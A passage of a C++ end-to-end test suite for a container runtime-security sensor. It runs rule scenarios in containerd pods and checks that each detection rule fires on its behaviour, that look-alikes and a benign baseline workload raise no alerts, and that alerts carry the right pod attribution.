    delete host_tmp_;
    delete netns_;
    delete setup_;
    dir_ = host_tmp_ = netns_ = nullptr;
    setup_ = nullptr;
  }

  void SetUp() override {
    RequireE2eOrSkip();
    ASSERT_NE(setup_, nullptr);
    ASSERT_TRUE(setup_->ok()) << *setup_;
  }

  // Runs `cmd` as the scenario `marker` where asked; returns the wait status.
  static int RunScenario(Where where, const std::string& cmd, const std::string& marker) {
    // The trailing `true` keeps the shell (and its marker) as the parent of
    // the command: a shell execs its last simple command in place.
    const std::string script = cmd + "\ntrue";
    const std::vector<std::string> sh = {"/usr/bin/timeout", "60", "/bin/sh", "-c", script, marker};
    std::vector<std::string> argv;
    switch (where) {
      case Where::kContainer:
      case Where::kDropper:
        argv = {"/usr/bin/ctr",
                "-a",
                containerd_->socket(),
                "-n",
                "k8s.io",
                "task",
                "exec",
                "--exec-id",
                marker.substr(sizeof(kMarkerPrefix) - 1),
                where == Where::kContainer ? attack_->id : dropper_->id};
        break;
      case Where::kHostNetns:
        argv = {"/usr/sbin/ip", "netns", "exec", *netns_};
        break;
      case Where::kHost:
        break;
    }
    argv.insert(argv.end(), sh.begin(), sh.end());
    return vigil::testing::Run(argv);
  }

  // Every alert so far, by the scenario marker of the process that raised it
  // ("" for alerts of no scenario). Waits for an end marker first: alerts go
  // out right after the event that raised them, so all are in by then.
  static std::map<std::string, std::vector<v1::Event>> AlertsByScenario() {
    const std::string end = "vigil-detect-end-" + Nonce();
    EXPECT_EQ(vigil::testing::Run({"/bin/true", end}), 0);
    EXPECT_TRUE(sensor_
                    ->WaitFor(
                        [&](const v1::Event& e) {
                          return IsExec(e) && MarkerOf(e.process()).empty() && e.process().argv_size() == 2 &&
                                 e.process().argv(1) == end;
                        },
                        absl::Seconds(30))
                    .has_value());
    std::map<std::string, std::string> scenario_of_exec;  // exec id -> marker
    std::map<std::string, std::vector<v1::Event>> alerts;
    for (const v1::Event& e : sensor_->Events()) {
      if (IsAlert(e)) {
        if (e.alert().aggregated()) continue;  // repeats an alert already counted
        std::string m = ScenarioOf(e);
        if (m.empty()) {
          auto it = scenario_of_exec.find(e.process().exec_id());
          if (it != scenario_of_exec.end()) m = it->second;
        }
        alerts[m].push_back(e);
        continue;
      }
      if (std::string m = ScenarioOf(e); !m.empty() && !e.process().exec_id().empty()) {
        scenario_of_exec.emplace(e.process().exec_id(), m);
      }
    }
    return alerts;
  }

  static std::string* dir_;
  static std::string* host_tmp_;
  static std::string* netns_;
  static absl::Status* setup_;
  static pid_t fake_pid_;
  static Containerd* containerd_;
  static CollectorProcess* collector_;
  static SensorProcess* sensor_;
  static Pod* attack_;
  static Pod* dropper_;
};

std::string* DetectionTest::dir_ = nullptr;
std::string* DetectionTest::host_tmp_ = nullptr;
std::string* DetectionTest::netns_ = nullptr;
absl::Status* DetectionTest::setup_ = nullptr;
pid_t DetectionTest::fake_pid_ = -1;
Containerd* DetectionTest::containerd_ = nullptr;
CollectorProcess* DetectionTest::collector_ = nullptr;
SensorProcess* DetectionTest::sensor_ = nullptr;
Pod* DetectionTest::attack_ = nullptr;
Pod* DetectionTest::dropper_ = nullptr;

std::string Describe(const RuleIndex& rules, const std::set<std::string>& ids) {
  std::vector<std::string> names;
  for (const std::string& id : ids) {
    auto it = rules.name_by_id.find(id);
    names.push_back(it == rules.name_by_id.end() ? "unknown rule " + id : it->second);
  }
  return names.empty() ? "(none)" : absl::StrJoin(names, ", ");
}

// Each rule fires on its behaviour, with the pod of the container it happened
// in, and the look-alike raises nothing but what the table says.
TEST_F(DetectionTest, EveryRuleFiresOnItsBehaviourAndNotOnItsLookAlike) {
  const RuleIndex rules = ReadRules();
  struct Execution {
    const Scenario* scenario;
    bool positive;
    Where where;
    std::string marker;
  };
  std::vector<Execution> runs;
  // Positives first: some look-alikes read what a positive wrote.
  for (bool positive : {true, false}) {
    for (const Scenario& s : Scenarios()) {
      const std::string nonce = Nonce().substr(0, 8);
      const Where where = positive ? s.where : s.negative_where;
      Execution r{&s, positive, where, kMarkerPrefix + nonce};
      const std::string cmd = Substitute(positive ? s.positive : s.negative, nonce, *host_tmp_);
      const int status = RunScenario(where, cmd, r.marker);
      EXPECT_TRUE(WIFEXITED(status)) << s.rule << (positive ? " positive" : " negative") << ": "
                                     << SensorProcess::DescribeStatus(status);
      runs.push_back(std::move(r));
    }
  }
  const auto alerts = AlertsByScenario();
  for (const Execution& r : runs) {
    SCOPED_TRACE(absl::StrCat(r.scenario->rule, r.positive ? " positive: " : " negative: ",
                              r.positive ? r.scenario->positive : r.scenario->negative));
    std::set<std::string> want;
    if (r.positive) want.insert(rules.id_by_name.at(r.scenario->rule));
    for (const char* n : r.positive ? r.scenario->positive_also : r.scenario->negative_also) {
      want.insert(rules.id_by_name.at(n));
    }
    std::set<std::string> got;
    auto it = alerts.find(r.marker);
    if (it != alerts.end()) {
      for (const v1::Event& a : it->second) {
        got.insert(a.alert().rule_id());
        const bool in_container = r.where == Where::kContainer || r.where == Where::kDropper;
        const Pod& pod = r.where == Where::kDropper ? *dropper_ : *attack_;
        if (in_container) {
          EXPECT_EQ(a.workload().pod_name(), pod.name) << a.alert().title();
          EXPECT_EQ(a.workload().pod_namespace(), kPodNamespace) << a.alert().title();
          EXPECT_EQ(a.workload().container_id(), pod.id) << a.alert().title();
        } else {
          EXPECT_TRUE(a.workload().host()) << a.alert().title();
        }
        EXPECT_FALSE(a.alert().techniques().empty()) << a.alert().title();
        EXPECT_FALSE(a.alert().tactics().empty()) << a.alert().title();
        EXPECT_NE(a.alert().severity(), v1::SEVERITY_UNSPECIFIED) << a.alert().title();
      }
    }
    EXPECT_EQ(got, want) << "fired: " << Describe(rules, got) << "\nexpected: " << Describe(rules, want);
  }
}

// An application container serving HTTP, resolving names, writing its logs
// and temporary files; the containers' start by containerd and runc; the
// sensor and the collector themselves: none of it raises an alert.
TEST_F(DetectionTest, BenignBaselineRaisesNoAlert) {
  Pod app = NewPod("app", *dir_);
  ASSERT_OK(StartOverlayContainer(app));
  const std::string work =
      "mkdir -p /var/log/app /srv/site && echo hello > /srv/site/index.html && "
      "{ python3 -m http.server 8080 --bind 127.0.0.1 --directory /srv/site >>/var/log/app/access.log 2>&1 & } && "
      "server=$! && sleep 1 && for i in 1 2 3 4 5; do curl -s http://127.0.0.1:8080/ >/dev/null; "
      "getent hosts api.example.org >/dev/null; echo \"request $i\" >> /var/log/app/app.log; "
      "t=$(mktemp); echo data > $t; rm -f $t; done; kill $server; true";
  EXPECT_EQ(vigil::testing::Run({"/usr/bin/ctr", "-a", containerd_->socket(), "-n", "k8s.io", "task", "exec",
                                 "--exec-id", "baseline", app.id, "/usr/bin/timeout", "120", "/bin/sh", "-c", work}),
            0);
  const auto alerts = AlertsByScenario();
  auto none = alerts.find("");
  std::vector<std::string> unexpected;
  if (none != alerts.end()) {
    for (const v1::Event& a : none->second) {
      const std::string& cid = a.workload().container_id();
      const std::string& exe = a.process().exe();
      // This test's daemons by pid: another vigil-sensor on the host (the
      // kernel matrix's self-test may run beside this test) is not ours.
      const uint32_t pid = a.process().pid();
      const bool ours = cid == app.id || cid == attack_->id || cid == dropper_->id ||
                        pid == static_cast<uint32_t>(sensor_->pid()) ||
                        pid == static_cast<uint32_t>(collector_->pid()) || absl::StrContains(exe, "containerd") ||
                        absl::EndsWith(exe, "/runc");
      if (ours)
        unexpected.push_back(absl::StrCat(a.alert().title(), " by ", exe, " [", a.process().comm(), "] in ",
                                          cid.empty() ? "host" : a.workload().pod_name()));
    }
  }
  EXPECT_THAT(unexpected, ::testing::IsEmpty());
  containerd_->Ctr("task kill -s KILL " + app.id + " >/dev/null 2>&1");
  for (int i = 0; i < 50 && containerd_->Ctr("task rm " + app.id + " >/dev/null 2>&1") != 0; ++i) {
    absl::SleepFor(absl::Milliseconds(100));
  }
  containerd_->Ctr("containers rm " + app.id + " >/dev/null 2>&1");
  umount2((app.dir + "/rootfs").c_str(), MNT_DETACH);
}

}  // namespace
}  // namespace vigil::testing
